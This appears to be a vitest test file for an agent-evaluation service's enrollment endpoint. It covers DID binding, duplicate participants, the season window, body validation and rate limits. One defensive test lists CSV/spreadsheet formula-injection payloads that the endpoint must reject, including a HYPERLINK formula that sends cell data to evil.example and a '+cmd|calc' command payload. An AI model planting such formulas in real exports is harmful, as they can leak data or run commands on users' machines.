import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startDevnet, type Devnet } from '../../devnet/start-devnet.ts';
import {
  boundKey,
  newDidKey,
  CLOSES_AT,
  enroll,
  exportLines,
  freezeBothTracks,
  OPENS_AT,
  SEASON_DIR,
  startTestService,
  TestClock,
  type RunningService,
} from './support/season-fixture.ts';

const CONFORMITE_DIR = join(SEASON_DIR, 'conformite');
let dir: string;
let devnet: Devnet;
let service: RunningService;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'enroll-'));
  devnet = await startDevnet({ stateDir: join(dir, 'devnet'), corpusDir: CONFORMITE_DIR });
  service = await startTestService(devnet.info.trust_layer);
  await freezeBothTracks(service);
}, 60_000);

afterAll(async () => {
  await service?.stop();
  await devnet?.close();
  rmSync(dir, { recursive: true, force: true });
});

const enrolledCount = async () => (await exportLines(service)).lines.length;

describe('POST /v1/season/{n}/enroll (spec §3 step 3, §9.1)', () => {
  it('a key with a bound DID enrolls: 201 with participant id, the bound DID, a 256-bit season token, the published tasks and the tracks', async () => {
    const key = await boundKey(devnet.info.trust_layer, 'first');
    const answer = await enroll(service.url, key.apiKey);
    expect(answer.status).toBe(201);
    expect(Object.keys(answer.json).sort()).toEqual(['did', 'participant_id', 'season_token', 'tasks', 'tracks']);
    expect(answer.json.did).toBe(key.did);
    expect(answer.json.participant_id).toMatch(/^par_[0-9a-f]{24}$/);
    expect(Buffer.from(answer.json.season_token.slice(4), 'base64url')).toHaveLength(32);
    const tasks = answer.json.tasks as { track: string; id: string }[];
    expect(tasks.filter((t) => t.track === 'conformite')).toHaveLength(10);
    expect(tasks.filter((t) => t.track === 'generique')).toHaveLength(10);
    // The sealed key never leaves the operator: no expected verdict, family or grounding fact in a task.
    expect(JSON.stringify(tasks)).not.toMatch(/"verdict"|"families"|"grounding"|"control"/);
  });

  it('a key with no bound DID is refused 403 ENROLL_NO_BOUND_DID and nothing is recorded', async () => {
    const before = await enrolledCount();
    const key = await boundKey(devnet.info.trust_layer, 'unbound', false);
    const answer = await enroll(service.url, key.apiKey);
    expect(answer.status).toBe(403);
    expect(answer.json.error.code).toBe('ENROLL_NO_BOUND_DID');
    expect(await enrolledCount()).toBe(before);
  });

  it('no X-Api-Key is 401 ENROLL_API_KEY_MISSING; a key the Trust Layer does not know is 401 ENROLL_API_KEY_REFUSED', async () => {
    expect((await enroll(service.url, null)).json.error.code).toBe('ENROLL_API_KEY_MISSING');
    const unknown = await enroll(service.url, 'mcp_free_000000000000000000000000000000000000000000000000');
    expect(unknown.status).toBe(401);
    expect(unknown.json.error.code).toBe('ENROLL_API_KEY_REFUSED');
  });

  it('the same key twice is one participant: 409 ENROLL_KEY_ALREADY_ENROLLED', async () => {
    const key = await boundKey(devnet.info.trust_layer, 'twice');
    expect((await enroll(service.url, key.apiKey)).status).toBe(201);
    const again = await enroll(service.url, key.apiKey);
    expect(again.status).toBe(409);
    expect(again.json.error.code).toBe('ENROLL_KEY_ALREADY_ENROLLED');
  });

  it('a key rebound to a new DID after enrolling is still the same participant (409): the old DID is in its history', async () => {
    const key = await boundKey(devnet.info.trust_layer, 'rebinder');
    expect((await enroll(service.url, key.apiKey)).status).toBe(201);
    await key.rebind();
    const again = await enroll(service.url, key.apiKey);
    expect(again.status).toBe(409);
  });

  it('a second key whose binding history holds an enrolled DID is the same participant: 409 ENROLL_DID_ALREADY_ENROLLED', async () => {
    const shared = newDidKey();
    const first = await boundKey(devnet.info.trust_layer, 'history-first', false);
    await first.rebind(shared);
    expect((await enroll(service.url, first.apiKey)).status).toBe(201);
    // The second key held the enrolled DID, then moved to another: its history still makes it the same participant.
    const second = await boundKey(devnet.info.trust_layer, 'history-second', false);
    await second.rebind(shared);
    await second.rebind();
    const answer = await enroll(service.url, second.apiKey);
    expect(answer.status).toBe(409);
    expect(answer.json.error.code).toBe('ENROLL_DID_ALREADY_ENROLLED');
    expect(answer.json.error.message).toContain(shared.did);
  });

  it("a key bound to a DID in an enrolled participant's history is the same participant: 409 ENROLL_DID_ALREADY_ENROLLED", async () => {
    const old = newDidKey();
    const enrolled = await boundKey(devnet.info.trust_layer, 'moved', false);
    await enrolled.rebind(old);
    await enrolled.rebind();
    expect((await enroll(service.url, enrolled.apiKey)).status).toBe(201);
    const other = await boundKey(devnet.info.trust_layer, 'takes-old', false);
    await other.rebind(old);
    const answer = await enroll(service.url, other.apiKey);
    expect(answer.status).toBe(409);
    expect(answer.json.error.code).toBe('ENROLL_DID_ALREADY_ENROLLED');
  });

  it('two keys with no DID in common are two participants (spec §10)', async () => {
    const a = await boundKey(devnet.info.trust_layer, 'apart-a');
    const b = await boundKey(devnet.info.trust_layer, 'apart-b');
    expect((await enroll(service.url, a.apiKey)).status).toBe(201);
    expect((await enroll(service.url, b.apiKey)).status).toBe(201);
  });

  it('the Trust Layer unreachable is 503 ENROLL_TRUST_LAYER_UNAVAILABLE and nothing is recorded', async () => {
    const down = await startTestService('http://127.0.0.1:1');
    try {
      await freezeBothTracks(down);
      const answer = await enroll(down.url, 'mcp_free_0123456789abcdef0123456789abcdef0123456789abcdef');
      expect(answer.status).toBe(503);
      expect(answer.json.error.code).toBe('ENROLL_TRUST_LAYER_UNAVAILABLE');
      expect((await exportLines(down)).lines).toEqual([]);
    } finally {
      await down.stop();
    }
  });

  it('before the opening 409 SEASON_NOT_OPEN, from the close on 409 SEASON_CLOSED (the anchored window, no grace)', async () => {
    const clock = new TestClock(new Date(Date.parse(OPENS_AT) - 1));
    const timed = await startTestService(devnet.info.trust_layer, { clock });
    try {
      await freezeBothTracks(timed);
      const key = await boundKey(devnet.info.trust_layer, 'timed');
      expect((await enroll(timed.url, key.apiKey)).json.error.code).toBe('SEASON_NOT_OPEN');
      clock.current = new Date(CLOSES_AT);
      expect((await enroll(timed.url, key.apiKey)).json.error.code).toBe('SEASON_CLOSED');
      clock.current = new Date(Date.parse(CLOSES_AT) - 1);
      expect((await enroll(timed.url, key.apiKey)).status).toBe(201);
    } finally {
      await timed.stop();
    }
  });

  it('a body that is not exactly {agent_name, declared_stack} in plain text is 422 with a code and the pointer at fault', async () => {
    const key = await boundKey(devnet.info.trust_layer, 'body');
    const cases: [unknown, string, string][] = [
      [{ agent_name: 'A' }, 'ENROLL_MISSING_KEY', '/declared_stack'],
      [{ agent_name: 'A', declared_stack: 'B', extra: 1 }, 'ENROLL_UNKNOWN_KEY', '/extra'],
      [{ agent_name: 7, declared_stack: 'B' }, 'ENROLL_FIELD_TYPE', '/agent_name'],
      [{ agent_name: '   ', declared_stack: 'B' }, 'ENROLL_FIELD_EMPTY', '/agent_name'],
      [{ agent_name: 'x'.repeat(81), declared_stack: 'B' }, 'ENROLL_FIELD_TOO_LONG', '/agent_name'],
      [{ agent_name: 'A\u202eB', declared_stack: 'B' }, 'ENROLL_FIELD_NOT_PLAIN_TEXT', '/agent_name'],
      ['{"agent_name": "A", "agent_name": "B", "declared_stack": "C"}', 'INTAKE_DUPLICATE_KEY', ''],
    ];
    for (const [body, code, pointer] of cases) {
      const answer = await enroll(service.url, key.apiKey, body);
      expect([answer.status, answer.json.error.code, answer.json.error.pointer]).toEqual([422, code, pointer]);
    }
    expect((await enroll(service.url, key.apiKey)).status).toBe(201);
  });

  it('an agent name or a declared stack a spreadsheet would read as a formula is 422 ENROLL_FIELD_FORMULA_TEXT, nothing recorded', async () => {
    const key = await boundKey(devnet.info.trust_layer, 'formula');
    const cases: [unknown, string][] = [
      [{ agent_name: '=HYPERLINK("http://evil.example/?x="&A1,"open")', declared_stack: 'B' }, '/agent_name'],
      [{ agent_name: '@agent', declared_stack: 'B' }, '/agent_name'],
      [{ agent_name: 'A', declared_stack: '+cmd|calc' }, '/declared_stack'],
      [{ agent_name: 'A', declared_stack: '-2+3' }, '/declared_stack'],
    ];
    for (const [body, pointer] of cases) {
      const answer = await enroll(service.url, key.apiKey, body);
      expect([answer.status, answer.json.error.code, answer.json.error.pointer]).toEqual([
        422,
        'ENROLL_FIELD_FORMULA_TEXT',
        pointer,
      ]);
      expect(answer.json.error.message).toContain('reads as a formula');
    }
    const enrolled = await enroll(service.url, key.apiKey, { agent_name: 'A=B', declared_stack: 'x-1' });
    expect(enrolled.status).toBe(201);
  });

  it('enrollment attempts past the per-address limit are 429 ENROLL_RATE_LIMITED with Retry-After', async () => {
    const limited = await startTestService(devnet.info.trust_layer, { limits: { enrollPerIpPerHour: 2 } });
    try {
      await freezeBothTracks(limited);
      const statuses = [];
      // Well-formed keys the Trust Layer does not know: real attempts, each asking it (a call with no key takes none).
      for (let i = 0; i < 3; i++) statuses.push(await enroll(limited.url, `mcp_free_${String(i).padStart(48, '0')}`));
      expect(statuses.map((s) => s.status)).toEqual([401, 401, 429]);
      expect(statuses[2]!.json.error.code).toBe('ENROLL_RATE_LIMITED');
      expect(Number(statuses[2]!.headers.get('retry-after'))).toBeGreaterThan(0);
    } finally {
      await limited.stop();
    }
  });
});
